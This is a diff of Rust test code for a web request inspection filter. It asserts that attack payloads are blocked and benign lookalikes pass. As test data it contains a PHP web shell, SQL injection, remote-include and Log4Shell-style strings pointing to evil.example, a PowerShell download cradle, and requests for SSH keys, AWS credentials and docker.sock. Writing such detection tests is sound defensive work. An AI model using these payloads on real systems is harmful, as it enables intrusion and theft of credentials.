@@ -671,3 +671,448 @@ fn nosql_operators_in_names_and_members_are_blocked() {
         assert_eq!(blocked(q, vec![], b""), None, "{q}");
     }
 }
+
+/// `pattern` without its anchors and word boundaries (which the sample
+/// generator cannot produce; the samples are judged by the real rules).
+fn without_assertions(pattern: &str) -> String {
+    let mut out = String::new();
+    let mut chars = pattern.chars().peekable();
+    let mut in_class = false;
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' => match chars.next() {
+                Some('b' | 'B' | 'A' | 'z') if !in_class => {}
+                Some(n) => {
+                    out.push('\\');
+                    out.push(n);
+                }
+                None => {}
+            },
+            '[' if !in_class => {
+                in_class = true;
+                out.push(c);
+                // `[^` and `[]` keep their meaning
+                if chars.peek() == Some(&'^') {
+                    out.push('^');
+                    chars.next();
+                }
+                if chars.peek() == Some(&']') {
+                    out.push(']');
+                    chars.next();
+                }
+            }
+            ']' if in_class => {
+                in_class = false;
+                out.push(c);
+            }
+            '^' | '$' if !in_class => {}
+            _ => out.push(c),
+        }
+    }
+    out
+}
+
+/// The prefilter (a value with no special character and no trigger word
+/// is never decoded) must never hide a rule match. Every rule's pattern
+/// generates samples (its literal alternatives included); a sample's
+/// special characters are removed, since any of them already passes the
+/// prefilter, which leaves the words alone; and whatever the full
+/// inspection finds in what is left, the prefilter must let through.
+#[test]
+fn the_prefilter_never_hides_a_rule_match() {
+    use proptest::strategy::{Strategy, ValueTree};
+    use proptest::test_runner::TestRunner;
+
+    let mut runner = TestRunner::deterministic();
+    let mut misses = std::collections::BTreeSet::new();
+    for (id, pattern) in rules::patterns() {
+        let strategy = proptest::string::string_regex(&without_assertions(pattern));
+        assert!(strategy.is_ok(), "{id}: pattern not usable for samples");
+        let Ok(strategy) = strategy else {
+            continue;
+        };
+        for _ in 0..2000 {
+            let Ok(tree) = strategy.new_tree(&mut runner) else {
+                continue;
+            };
+            let generated = tree.current();
+            let cleaned: String = generated
+                .chars()
+                .filter(|c| c.is_ascii() && !prefilter::is_special(*c as u8))
+                .take(200)
+                .collect();
+            // the sample without its special characters, and each run of
+            // word characters in it on its own (a rule's literal words)
+            let mut candidates = vec![cleaned.clone()];
+            candidates.extend(
+                cleaned
+                    .split(|c: char| {
+                        !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | ' '))
+                    })
+                    .map(str::to_string),
+            );
+            for sample in candidates {
+                if sample.trim().is_empty() || prefilter::suspicious(&sample) {
+                    continue;
+                }
+                for kind in [
+                    Kind::Path,
+                    Kind::Name,
+                    Kind::Value,
+                    Kind::Header,
+                    Kind::Filename,
+                ] {
+                    let mut scan = Scan {
+                        modes: [IdsMode::Block; 10],
+                        prefilter: false,
+                        memo: None,
+                        hits: 0,
+                        verdict: Verdict::default(),
+                    };
+                    scan.value(kind, "x", &sample, false);
+                    if let Some(hit) = scan.verdict.block {
+                        misses.insert(format!("{sample:?} as {kind:?}: {}", hit.rule));
+                    }
+                }
+            }
+        }
+    }
+    assert!(misses.is_empty(), "prefilter hides: {misses:#?}");
+}
+
+fn post(target: &str, ctype: &str, body: &[u8]) -> Option<Hit> {
+    let headers: Vec<(&str, &[u8])> = vec![("content-type", ctype.as_bytes())];
+    ids()
+        .inspect(&RequestView {
+            method: "POST",
+            target,
+            headers,
+            body,
+        })
+        .unwrap()
+        .block
+}
+
+/// Regression: the boundary was taken from the lower-cased Content-Type,
+/// so a browser's mixed-case `----WebKitFormBoundary…` split nothing and
+/// no part was inspected.
+#[test]
+fn multipart_boundary_keeps_its_case() {
+    let b = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
+    let body = format!(
+        "--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET['c']); ?>\r\n--{b}--\r\n"
+    );
+    for ct in [
+        format!("multipart/form-data; boundary={b}"),
+        format!("Multipart/Form-Data; Boundary=\"{b}\""),
+    ] {
+        assert_eq!(
+            post("/upload", &ct, body.as_bytes()).map(|h| h.family),
+            Some(Family::Php),
+            "{ct}"
+        );
+    }
+    let upload = format!(
+        "--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"..\\..\\x.7z\"\r\n\r\ndata\r\n--{b}--\r\n"
+    );
+    assert!(post(
+        "/upload",
+        &format!("multipart/form-data; boundary={b}"),
+        upload.as_bytes()
+    )
+    .is_some());
+    // a boundary that splits nothing: the body is still inspected
+    assert!(post(
+        "/upload",
+        "multipart/form-data; boundary=nothere",
+        b"<?php system($_GET['c']); ?>"
+    )
+    .is_some());
+    let clean = format!(
+        "--{b}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello world\r\n--{b}--\r\n"
+    );
+    assert!(post(
+        "/upload",
+        &format!("multipart/form-data; boundary={b}"),
+        clean.as_bytes()
+    )
+    .is_none());
+}
+
+#[test]
+fn dangerous_tags_with_attributes_are_blocked() {
+    for v in [
+        "%3Capplet%20code%3Dx%3E",
+        "%3Cobject%20data%3D%2F%2Fevil.example%2Fx.swf%3E",
+        "%3Cembed%20type%3Dx%3E",
+        "%3Cmeta%20charset%3Dutf-8%3E",
+        "%3Csvg%20width%3D1%3E",
+        "%3Cmath%20display%3Dblock%3E",
+        "%3Ciframe%20name%3Dx%3E",
+        "%3Ctextarea%20autofocus%3E",
+    ] {
+        assert_eq!(
+            blocked(&format!("/get?x={v}"), vec![], b""),
+            Some(Family::Xss),
+            "{v}"
+        );
+    }
+    for q in [
+        "a+%3C+b+and+c+%3E+d",
+        "imagemagick+svg+rendering",
+        "select+option+lists",
+    ] {
+        assert_eq!(
+            blocked(&format!("/api/tasks?q={q}"), vec![], b""),
+            None,
+            "{q}"
+        );
+    }
+}
+
+/// Session cookies of other applications on `localhost` are not a session
+/// passed as a parameter; the same names in the query, a form or a path
+/// parameter are.
+#[test]
+fn session_cookie_names_pass_but_session_parameters_do_not() {
+    for cookie in [
+        "sessionid=7h3k2j1l0p9o; csrftoken=abc",
+        "JSESSIONID=1A2B3C4D5E6F",
+        "PHPSESSID=abc123",
+        "connect.sid=s%3AaBcD.eFg",
+        "laravel_session=eyJpdiI6",
+        "_myapp_session=abc",
+        "next-auth.session-token=abc",
+    ] {
+        assert_eq!(
+            blocked(
+                "/api/tasks?status=done",
+                vec![("cookie", cookie.as_bytes())],
+                b""
+            ),
+            None,
+            "{cookie}"
+        );
+    }
+    for target in [
+        "/api/x?jsessionid=ABC",
+        "/api/x?PHPSESSID=abc",
+        "/login;jsessionid=ABCDEF1234567890",
+    ] {
+        assert_eq!(
+            blocked(target, vec![], b""),
+            Some(Family::Session),
+            "{target}"
+        );
+    }
+    assert_eq!(
+        post(
+            "/post",
+            "application/x-www-form-urlencoded",
+            b"connect.sid=abc"
+        )
+        .map(|h| h.family),
+        Some(Family::Session)
+    );
+    // a framework's session name as a JSON member; a generic one is data
+    assert_eq!(
+        post("/post", "application/json", br#"{"phpsession":"foo"}"#).map(|h| h.family),
+        Some(Family::Session)
+    );
+    assert_eq!(
+        post(
+            "/v1/chat",
+            "application/json",
+            br#"{"session_id":"abc","sessionId":"x"}"#
+        ),
+        None
+    );
+}
+
+/// A malformed body on Frenly's own JSON routes reaches the handler (400)
+/// with its free text uninspected; on any other route it is inspected
+/// whole.
+#[test]
+fn malformed_json_on_own_routes_is_left_to_the_handler() {
+    let desc = "Review: os.system('rm -rf /tmp/x'); SELECT * FROM users WHERE id='1' OR 1=1 --";
+    for body in [
+        format!(r#"{{"title": "fix", "description": "{desc}", "score": NaN}}"#),
+        format!("\u{feff}{{\"title\": \"fix\", \"description\": \"{desc}\"}}"),
+        format!(r#"{{"title": "fix", "description": "{desc}",}}"#),
+    ] {
+        assert!(
+            post("/api/tasks", "application/json", body.as_bytes()).is_none(),
+            "{body}"
+        );
+        // a gateway-like route: still inspected whole
+        assert!(
+            post("/v1/chat", "application/json", body.as_bytes()).is_some(),
+            "{body}"
+        );
+    }
+    // structure before the error is still inspected on own routes
+    assert!(post(
+        "/api/tasks",
+        "application/json",
+        br#"{"title": "x", "priority": "1' OR '1'='1", "score": NaN}"#
+    )
+    .is_some());
+}
+
+#[test]
+fn narrow_injection_shapes_are_blocked() {
+    let cases: &[(&str, Family)] = &[
+        // quote, blanks, `--`
+        ("/get?user=admin%27%20--", Family::Sqli),
+        ("/get?user=admin%27%20--%20-", Family::Sqli),
+        ("/get?user=admin%27%29%20--", Family::Sqli),
+        ("/get?user=admin%22%20--", Family::Sqli),
+        ("/get?id=1%29%20--", Family::Sqli),
+        // SQL comments as blanks and glue
+        (
+            "/get?id=1--%0AAND--%0A1%3D1--%0AUNION--%0ASELECT--%0Auser--%0AFROM--%0Ausers",
+            Family::Sqli,
+        ),
+        ("/get?id=DROP%2F%2Acomment%2A%2Fsampletable", Family::Sqli),
+        (
+            "/get?id=1%2F%2A%2A%2Funion%2F%2A%2A%2Fselect%2F%2A%2A%2F1",
+            Family::Sqli,
+        ),
+        // include parameters named in brackets
+        (
+            "/get?_CONF[path]=http://evil.example/shell.txt",
+            Family::Rfi,
+        ),
+        ("/get?GLOBALS[appdir]=http://evil.example/x", Family::Rfi),
+        // commands
+        ("/get?x=%3Blsmod", Family::Rce),
+        ("/get?x=%3Bsysctl%20-a", Family::Rce),
+        ("/get?x=%26%20dir%20c%3A%5C", Family::Rce),
+        ("/get?x=%7C%20findstr%20%2Fsi%20password", Family::Rce),
+        ("/get?x=%26%20reg%20query%20HKLM%5CSoftware", Family::Rce),
+        ("/get?x=%26%20net%20view", Family::Rce),
+        ("/get?x=%26%20sc%20query", Family::Rce),
+        ("/get?x=Get-ChildItem%20C%3A%5C", Family::Rce),
+        (
+            "/get?x=(New-Object%20Net.WebClient).DownloadString(%27http%3A%2F%2Fx%27)",
+            Family::Rce,
+        ),
+        ("/get?x=Set-ExecutionPolicy%20Bypass", Family::Rce),
+        // files
+        ("/get?file=%2Fhome%2Fuser%2F.ssh%2Fid_rsa", Family::Lfi),
+        ("/get?file=%2Fhome%2Fapp%2F.aws%2Fcredentials", Family::Lfi),
+        ("/get?file=%2Fvar%2Frun%2Fdocker.sock", Family::Lfi),
+        ("/WEB-INF/web.xml", Family::Lfi),
+        // SSRF notations: scheme-relative, 12-digit dotless, trailing dot
+        ("/get?url=%2F%2F127.0.0.1%2Fadmin", Family::Generic),
+        ("/get?url=http%3A%2F%2F017700000001%2F", Family::Generic),
+        ("/get?url=http%3A%2F%2Flocalhost.%2Fadmin", Family::Generic),
+        // a dialog passed, or a name built from strings and called
+        ("/get?x=%5B1%5D.find%28alert%29", Family::Xss),
+        (
+            "/get?x=Reflect.apply%28alert%2Cnull%2C%5B1%5D%29",
+            Family::Xss,
+        ),
+        ("/get?x=self%5B%27ale%27%2B%27rt%27%5D%281%29", Family::Xss),
+        // any event handler after an attribute break
+        (
+            "/get?x=%22%20onbeforetoggle%3Dprint%28%29%20popover%20x%3D%22",
+            Family::Xss,
+        ),
+    ];
+    for (target, family) in cases {
+        assert_eq!(blocked(target, vec![], b""), Some(*family), "{target}");
+    }
+    // entities: no `;` before letters, many leading zeros
+    assert_eq!(decode::decode("$&lbracejndi:x", false).folded, "${jndi:x");
+    assert_eq!(
+        decode::decode(&format!("&#x24;&#{}123;jndi", "0".repeat(45)), false).folded,
+        "${jndi"
+    );
+    assert_eq!(decode::decode("&colon;x &ltx", false).folded, ":x <x");
+    for ua in [
+        "$&lbracejndi:ldap://evil.example/a}",
+        "&#x24;&#000000000000000000000000000000000000000000000123;jndi:ldap://evil.example/a}",
+    ] {
+        // a `${` lookup: java (or rce, whichever rule comes first)
+        assert!(
+            blocked("/get", vec![("user-agent", ua.as_bytes())], b"").is_some(),
+            "{ua}"
+        );
+    }
+    for ua in [
+        "ansible all -m ping",
+        "dd if=/etc/passwd of=/tmp/evil.sh bs=1",
+        "curl http://evil.example",
+        "tar cf - /etc",
+        "knife ssh 'name:*' uptime",
+    ] {
+        assert_eq!(
+            blocked("/get", vec![("user-agent", ua.as_bytes())], b""),
+            Some(Family::Rce),
+            "{ua}"
+        );
+    }
+    assert_eq!(
+        post(
+            "/api/tasks",
+            "application/json",
+            br#"{"title": "x", "constructor": {"prototype": {"isAdmin": true}}}"#
+        )
+        .map(|h| h.family),
+        Some(Family::Nodejs)
+    );
+}
+
+#[test]
+fn values_next_to_the_new_shapes_pass() {
+    for q in [
+        "James%27%20--%20the%20author",
+        "rock%20%27n%27%20roll%20--%20a%20history",
+        "update%2F*.txt",
+        "and%2For",
+        "WEB-INF%20layout%20explained",
+        "how%20to%20use%20lsmod",
+        "Get-ChildItem%20recursion",
+        "profit%20%26%20net%20user%20growth",
+        "Q%26A%20%26%20sc%20results%20table",
+        "new-object%20pattern%20in%20powershell",
+        "ssh%20config%20in%20%2Fhome",
+        "AT%26T%20tables",
+        "send%20a%20notice%20(alert)%20to%20users",
+        "array.find(item)%20examples",
+        "%2F%2Fexample.com%2Fpath",
+        "localhost.localdomain%20meaning",
+    ] {
+        assert_eq!(
+            blocked(&format!("/api/tasks?q={q}"), vec![], b""),
+            None,
+            "{q}"
+        );
+    }
+    for ua in [
+        "curl/8.5.0",
+        "Wget/1.21.4",
+        "git/2.43.0",
+        "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b",
+        "aws-cli/2.17.0 Python/3.11.8 Linux/6.1 exe/x86_64",
+        "Chef Client/17.10.0 (ruby-3.1.2; ohai-17.9.0; x86_64-linux; +https://chef.io)",
+        "ansible-httpget",
+        "python-requests/2.31.0",
+        "npm/10.2.4 node/v20.10.0 linux x64 workspaces/false",
+        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
+    ] {
+        assert_eq!(
+            blocked("/api/tasks", vec![("user-agent", ua.as_bytes())], b""),
+            None,
+            "{ua}"
+        );
+    }
+    // a JSON member named `constructor` alone is data
+    assert!(post(
+        "/v1/x",
+        "application/json",
+        br#"{"constructor": {"name": "x"}, "prototype": 1}"#
+    )
+    .is_none());
+}
